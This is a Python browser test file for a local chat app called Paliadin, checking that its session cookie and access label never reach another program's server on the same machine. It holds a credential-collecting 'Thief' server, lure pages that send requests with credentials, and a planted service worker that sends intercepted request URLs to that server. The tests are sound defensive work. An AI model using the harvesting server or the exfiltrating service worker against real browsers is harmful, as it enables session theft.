"""Another program's web server on this machine, in the browser that is signed in: it gets nothing that lets it in."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
import pytest
from playwright.sync_api import Browser, BrowserType, Page, expect

from paliadin.demo.scripted_api import ScriptedApi
from tests.browser.helpers import chromium, firefox
from tests.integration.conftest import make_world
from tests.worlds.world import World

API = "/api/paliadin"
PATHS = ("/", "/paliadin", "/admin/paliadin", f"{API}/history", f"{API}/turn", "/~a/paliadin", "/deep/er/path")
LURE = """<!doctype html><title>a game</title><link rel=icon href=data:,><h1>Play!</h1>
<img src="/picture"><iframe src="/frame"></iframe>
<script>
  fetch("/fetched", {credentials: "include"});
  navigator.sendBeacon("/beacon", "x");
</script>"""
ALL = "/all"  # the other paths in frames of one page: Firefox takes seconds for each page that it goes to
LURES = dict.fromkeys(PATHS, LURE) | {ALL: LURE + "".join(f'<iframe src="{path}"></iframe>' for path in PATHS)}


@dataclass
class Thief:
    """Serves a page that looks harmless, and keeps every header that a browser sends."""

    port: int = 0
    names: tuple[str, ...] = ("127.0.0.1", "localhost", "thief.localhost")
    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    @property
    def hosts(self) -> list[str]:
        return [f"http://{name}:{self.port}" for name in self.names]

    @property
    def loot(self) -> set[str]:
        """Everything that came as a cookie or a credential."""
        wanted = {"cookie", "authorization"}
        return {value for _, sent in self.requests for name, value in sent.items() if name.lower() in wanted}


@pytest.fixture(scope="module")
def browser(browser_type: BrowserType, browser_type_launch_args: dict[str, Any]) -> Iterator[Browser]:
    """Not the shell of all other tests: where a cookie goes is shown with the browser that people use."""
    with browser_type.launch(**browser_type_launch_args | chromium.launch_options(whole=True)) as launched:
        yield launched


@pytest.fixture
def thief() -> Iterator[Thief]:
    found = Thief()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.requests.append((self.path, dict(self.headers)))
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(LURES.get(self.path, "").encode())

        do_POST = do_GET  # noqa: N815  # http.server's name

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield found
    server.shutdown()
    thread.join()
    server.server_close()


def visit(page: Page, thief: Thief) -> None:
    for host in thief.hosts:
        for path in ("/", ALL):
            page.goto(host + path)
            expect(page.get_by_role("heading", name="Play!")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert {path for path, _ in thief.requests} >= {*PATHS, "/picture", "/frame", "/fetched", "/beacon"}


def locked(world: World, page: Page) -> None:
    """At the daemon's plain address nobody is signed in, and nobody should paste an address with a ticket there."""
    for host in ("127.0.0.1", "localhost"):
        page.goto(f"http://{host}:{world.options['PORT']}/admin/paliadin")
        expect(page.get_by_role("heading", name="Paliadin is locked")).to_be_visible()
        expect(page.locator("main")).to_contain_text("has an address of its own")
        expect(page.locator("form")).to_be_hidden()
        assert world.label not in page.content()


def test_a_cookie_goes_to_no_other_program(world: World, thief: Thief, browser: Browser) -> None:
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.goto(world.url)
        expect(page).to_have_url(f"{world.origin}/paliadin")
        expect(page.locator(".composer textarea")).to_be_visible()
        with pytest.raises(OSError, match="in use"):  # Chromium looks for `<label>.localhost` there first
            socket.create_server(("::1", int(world.options["PORT"])), family=socket.AF_INET6)
        visit(context.new_page(), thief)
        assert thief.loot == set()
        assert world.label not in str(thief.requests)
        locked(world, context.new_page())


@pytest.mark.long
def test_without_a_host_of_its_own_the_cookie_stays_at_a_path_of_its_own(
    world: World, thief: Thief, browser_type: BrowserType, browser_type_launch_args: dict[str, Any]
) -> None:
    rules = "--host-resolver-rules=MAP *.localhost ~NOTFOUND"  # as in a browser that does not know such names
    options = browser_type_launch_args | chromium.launch_options(whole=True)
    options["args"].append(rules)
    thief.names = thief.names[:2]
    with browser_type.launch(**options) as browser, browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        own = f"http://127.0.0.1:{world.options['PORT']}/~{world.label}"
        page.goto(world.path_url)
        expect(page).to_have_url(f"{own}/paliadin")
        expect(page.locator(".composer textarea")).to_be_visible()
        visit(context.new_page(), thief)
        assert thief.loot == set()
        assert world.label not in str(thief.requests)
        locked(world, context.new_page())
        page.get_by_role("link", name="Monitoring").click()
        expect(page).to_have_url(re.compile(f"^{own}/admin/paliadin"))
        page.locator(".tile .big").first.click()
        expect(page).to_have_url(re.compile(f"^{own}/admin/paliadin/turns"))
        page.get_by_role("link", name="Chat").click()
        expect(page).to_have_url(f"{own}/paliadin")


@pytest.mark.long
def test_a_link_in_another_page_finds_the_browser_signed_in(world: World, thief: Thief, browser: Browser) -> None:
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.goto(world.url)
        expect(page.locator(".composer textarea")).to_be_visible()
        before = len(signed_in(world))
        for address in (world.url, f"{world.origin}/paliadin"):  # the first one is not needed, and lets nobody else in
            page.goto(thief.hosts[0])
            page.evaluate("address => { document.body.innerHTML = `<a href='${address}'>the chat</a>`; }", address)
            page.get_by_role("link", name="the chat").click()
            expect(page.locator(".composer textarea")).to_be_visible()
            assert page.url == f"{world.origin}/paliadin"
        assert len(signed_in(world)) == before


def signed_in(world: World) -> list[object]:
    return list(json.loads((world.settings.home / "access.json").read_text())["browsers"])


WORKER = """self.addEventListener("fetch", (event) => {
  fetch(`http://127.0.0.1:PORT/saw/${encodeURIComponent(event.request.url)}`, { mode: "no-cors" });
  event.respondWith(new Response("<h1>Play!</h1>", { headers: { "content-type": "text/html" } }));
});
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));"""


def test_a_service_worker_that_another_program_left_at_our_port_sees_no_address_and_goes(
    tmp_path_factory: pytest.TempPathFactory,
    one_claude: Path,
    api: tuple[ScriptedApi, str],
    browser: Browser,
    thief: Thief,
) -> None:
    for world in make_world(tmp_path_factory.mktemp("worker"), one_claude, api):
        world.scripted = True
        plain = f"http://127.0.0.1:{world.port}"
        with browser.new_context(locale="en-GB") as context:
            page = context.new_page()
            with serving({"/": LURE, "/worker.js": WORKER.replace("PORT", str(thief.port))}, world.port):
                page.goto(f"{plain}/")
                page.evaluate(
                    "navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
                )
            world.start()
            page.goto(world.announced)
            expect(page.locator(".composer textarea")).to_be_visible()
            page.goto(f"{plain}/paliadin")  # it answers here once more, and the browser asks us for a newer one
            expect(page.get_by_role("heading", name="Paliadin is locked")).to_be_visible()
            registered = "navigator.serviceWorker.getRegistrations().then((found) => found.length)"
            assert page.evaluate(registered) == 0
            assert "%2Fpaliadin" in str(thief.requests), "the worker was there"
            assert world.label not in str(thief.requests)


@contextlib.contextmanager
def serving(pages: dict[str, str], port: int) -> Iterator[None]:
    """Another program's server at this port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/javascript" if self.path.endswith(".js") else "text/html")
            self.end_headers()
            self.wfile.write(pages.get(self.path, "").encode())

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.long
def test_a_page_that_is_open_while_its_address_changes_says_that_it_is_signed_out(
    world: World, browser: Browser
) -> None:
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.goto(world.url)
        expect(page.locator(".composer textarea")).to_be_visible()
        before = world.label
        with httpx2.Client(transport=world.command_transport()) as owner:
            assert owner.post(f"http://paliadin{API}/access/rotate").status_code == 200
        assert world.label != before
        expect(page.locator("main")).to_contain_text("paliadin open")
        page.reload()
        expect(page.get_by_text("The page has moved")).to_be_visible()
        expect(page.get_by_text("has an address of its own")).to_be_hidden()
        expect(page.locator("main")).not_to_contain_text("ALLOWED_HOSTS")


@pytest.mark.long
@pytest.mark.parametrize(
    "by_path",
    [False, pytest.param(True, marks=pytest.mark.matrix)],
    ids=["a host of its own", "a path of its own"],
)
def test_a_cookie_in_firefox_goes_to_no_other_program(
    world: World, thief: Thief, tmp_path: Path, by_path: bool
) -> None:
    address = world.path_url if by_path else world.url
    own = address.partition("/paliadin?")[0]
    lures = [host + path for host in thief.hosts for path in (ALL, "/deep/er/path")]
    with firefox.running(tmp_path / "firefox") as browser:
        assert browser.go(address, ".composer textarea")["address"] == f"{own}/paliadin"
        assert {browser.go(lure)["text"].strip() for lure in lures} == {"Play!"}
        assert browser.go(f"{own}/paliadin", ".composer textarea")["address"] == f"{own}/paliadin"
    assert {path for path, _ in thief.requests} >= {*PATHS, "/picture", "/frame", "/fetched", "/beacon"}
    assert thief.loot == set()
    assert world.label not in str(thief.requests)
